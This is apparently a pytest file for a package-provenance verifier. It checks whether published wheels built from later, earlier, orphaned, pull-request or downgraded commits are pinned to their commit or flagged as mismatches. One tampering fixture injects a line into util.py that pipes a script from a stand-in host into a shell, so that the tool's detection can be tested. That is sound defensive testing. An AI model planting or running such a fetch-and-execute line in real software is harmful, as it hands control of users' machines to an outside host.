"""Each file of a release pinned to the commit it was built from: wheels uploaded later, built from a later commit
of the release's history (markupsafe 2.1.3's cp312 wheels), are compared with that commit and reported at
medium (OSP205), not as tampering; a file matching a commit outside the release's published history, or no
commit, stays a high finding. Plain `verify PURL` against the loopback registry and forge."""

from __future__ import annotations

import subprocess
import sys

import pytest

from ossprov import stages
from ossprov.fixtures.world import FORGE, Repo, World
from ossprov.model import ArtifactResult, Severity, Verdict, VerifyResult
from ossprov.source.git import clone_dir_for
from tests.conftest import only_result

VERSION = "1.0"
LATE_TAG = "cp312-cp312-manylinux_2_17_x86_64"
UTIL = "def helper(s, kind):\n    return f'{kind}:{s}'\n"


def _init(kind: str) -> str:
    return f"from .util import helper\n\n__version__ = '{VERSION}'\n\n\ndef escape(s):\n    return helper(s, {kind!r})\n"


def _sources(name: str, kind: str = "list") -> dict[str, str | bytes]:
    return {"pyproject.toml": f"[project]\nname = '{name}'\nversion = '{VERSION}'\n",
            f"src/{name}/__init__.py": _init(kind), f"src/{name}/util.py": UTIL}


def _wheel(files: dict[str, str | bytes]) -> dict[str, str | bytes]:
    return {path.removeprefix("src/"): data for path, data in files.items() if path.startswith("src/")}


def _publish(world: World, name: str, sdist: dict | None, wheel: dict, tag: str = "py3-none-any") -> str:
    return world.publish_pypi(name, VERSION, sdist, wheel_files=wheel, wheel_tag=tag,
                              metadata={"Project-URL": [f"Source, {FORGE}acme/{name}"]})


def _release(world: World, name: str) -> tuple[Repo, str]:
    """A repository whose commit tagged v1.0 is the release: its sdist and pure wheel published."""
    repo = world.repo(f"acme/{name}")
    files = _sources(name)
    sha = repo.commit("release 1.0", files)
    repo.tag(f"v{VERSION}")
    _publish(world, name, files, _wheel(files))
    return repo, sha


def _git(repo: Repo, *args: str) -> None:
    subprocess.run(["git", *args], cwd=repo.path, check=True, capture_output=True)


def _artifact(result: VerifyResult, tag: str) -> ArtifactResult:
    return next(a for a in result.artifacts if tag in a.artifact.filename)


def _highs(result: VerifyResult) -> list:
    return [f for f in result.findings if f.severity is Severity.HIGH]


def test_wheel_built_from_a_later_commit_is_pinned_to_it(world: World) -> None:
    name = "later"
    repo, release = _release(world, name)
    later_files = _sources(name, "typing.List")
    later = repo.commit("wheels for Python 3.12", later_files)
    purl = _publish(world, name, None, _wheel(later_files), LATE_TAG)

    result = stages.verify(purl)

    assert result.locate.commit == release
    assert result.locate.confidence >= 0.8  # the later wheel is no witness against the release commit
    assert any(e.kind == "artifact-content" and e.data.get("commit") == later and not e.supports
               for e in result.locate.evidence)
    assert result.verdict is Verdict.FAITHFUL and not _highs(result), result.findings
    late = _artifact(result, LATE_TAG)
    assert late.commit == later and late.verdict is Verdict.FAITHFUL
    (note,) = [f for f in result.findings if f.rule == "OSP205"]
    assert note.severity is Severity.MEDIUM and note.artifact == late.artifact.filename
    assert f"built from commit {later[:12]}, 1 commit after the release commit {release[:12]}, on branch main" \
        in note.message
    assert note.message in late.reason and "built from commit" in result.reason
    assert [a.commit for a in result.artifacts if a is not late] == [None, None]  # the sdist and the pure wheel

    cli = subprocess.run([sys.executable, "-m", "ossprov", "verify", purl, "--format", "json"], capture_output=True,
                         text=True)
    doc = only_result(cli.stdout)
    assert cli.returncode == 0, cli.stderr  # the gate fails on high: the later wheel is no reason to
    assert {a["artifact"]["filename"]: a["commit"] for a in doc["artifacts"]}[late.artifact.filename] == later
    assert [f["severity"] for f in doc["findings"] if f["rule"] == "OSP205"] == ["medium"]


def test_wheel_built_from_an_earlier_commit_says_before(world: World) -> None:
    name = "earlier"
    repo = world.repo(f"acme/{name}")
    earlier_files = _sources(name, "typing.List")
    earlier = repo.commit("first cut", earlier_files)
    files = _sources(name)
    release = repo.commit("release 1.0", files)
    repo.tag(f"v{VERSION}")
    _publish(world, name, files, _wheel(files))
    purl = _publish(world, name, None, _wheel(earlier_files), LATE_TAG)

    result = stages.verify(purl)

    assert result.locate.commit == release and not _highs(result)
    assert _artifact(result, LATE_TAG).commit == earlier
    assert any("1 commit before the release commit" in f.message for f in result.findings if f.rule == "OSP205")


@pytest.mark.parametrize("history", ["orphan", "diverged"])
def test_wheel_matching_a_commit_of_an_unrelated_history_stays_a_mismatch(world: World, history: str) -> None:
    """A branch of the repository holds the changed file, but not a descendant or ancestor of the release: an
    orphan branch, or one forked before the release that never merged it."""
    name = history
    repo = world.repo(f"acme/{name}")
    start = repo.commit("start", {"README.md": f"# {name}\n"})
    files = _sources(name)
    repo.commit("release 1.0", files)
    repo.tag(f"v{VERSION}")
    _publish(world, name, files, _wheel(files))
    _git(repo, "checkout", "-q", *(["--orphan", "experiment"] if history == "orphan" else ["-b", "experiment", start]))
    later_files = _sources(name, "typing.List")
    repo.commit("unrelated history", later_files, push=False)
    _git(repo, "push", "-q", "origin", "experiment")
    purl = _publish(world, name, None, _wheel(later_files), LATE_TAG)

    result = stages.verify(purl)

    assert result.verdict is Verdict.MISMATCH
    late = _artifact(result, LATE_TAG)
    assert late.commit is None and any(f.path == f"{name}/__init__.py" for f in _highs(result))
    assert not [f for f in result.findings if f.rule == "OSP205"]


@pytest.mark.parametrize("mirror", [False, True])
def test_commit_only_on_a_pull_request_ref_does_not_count(world: World, mirror: bool) -> None:
    """Anyone can open a pull request: its commit, a descendant of the release, is on `refs/pull/*` only. It does
    not count, neither when the clone lacks it (ossprov's own clone) nor when the clone holds the ref (a mirror
    clone, whose blob index then finds the commit)."""
    name = "pullreq"
    repo, _ = _release(world, name)
    later_files = _sources(name, "typing.List")
    repo.commit("contribution", later_files, push=False)
    _git(repo, "push", "-q", "origin", "HEAD:refs/pull/1/head")
    purl = _publish(world, name, None, _wheel(later_files), LATE_TAG)
    if mirror:
        clone = clone_dir_for(repo.url)
        clone.parent.mkdir(parents=True, exist_ok=True)
        subprocess.run(["git", "clone", "-q", "--mirror", str(repo.bare), str(clone)], check=True,
                       capture_output=True)

    result = stages.verify(purl)

    assert result.verdict is Verdict.MISMATCH
    assert _artifact(result, LATE_TAG).commit is None
    assert not [f for f in result.findings if f.rule == "OSP205"]


def test_wheel_of_a_later_commit_with_a_tampered_file_stays_a_mismatch(world: World) -> None:
    """Built from the later commit, and one more file changed that no commit holds: the later commit does not
    explain the file, so its high finding stands (against the release commit)."""
    name = "latetamper"
    repo, _ = _release(world, name)
    later_files = _sources(name, "typing.List")
    repo.commit("wheels for Python 3.12", later_files)
    tampered = {**_wheel(later_files), f"{name}/util.py": UTIL + "import os; os.system('curl x.example | sh')\n"}
    purl = _publish(world, name, None, tampered, LATE_TAG)

    result = stages.verify(purl)

    assert result.verdict is Verdict.MISMATCH
    assert _artifact(result, LATE_TAG).commit is None
    assert any(f.path == f"{name}/util.py" for f in _highs(result))
    assert not [f for f in result.findings if f.rule == "OSP205"]



def test_wheel_built_across_another_release_stays_a_mismatch(world: World) -> None:
    """An ancestor of the release commit, but 0.9 was released in between: the wheel is 0.9's code (or older)
    published as 1.0, a downgrade, not a build of this release."""
    name = "downgrade"
    repo = world.repo(f"acme/{name}")
    old_files = _sources(name, "typing.List")
    repo.commit("first cut", old_files)
    repo.commit("release 0.9", {"CHANGES.md": "0.9\n"})
    repo.tag("v0.9")
    files = _sources(name)
    repo.commit("release 1.0", files)
    repo.tag(f"v{VERSION}")
    _publish(world, name, files, _wheel(files))
    purl = _publish(world, name, None, _wheel(old_files), LATE_TAG)

    result = stages.verify(purl)

    assert result.verdict is Verdict.MISMATCH
    assert _artifact(result, LATE_TAG).commit is None
    assert not [f for f in result.findings if f.rule == "OSP205"]
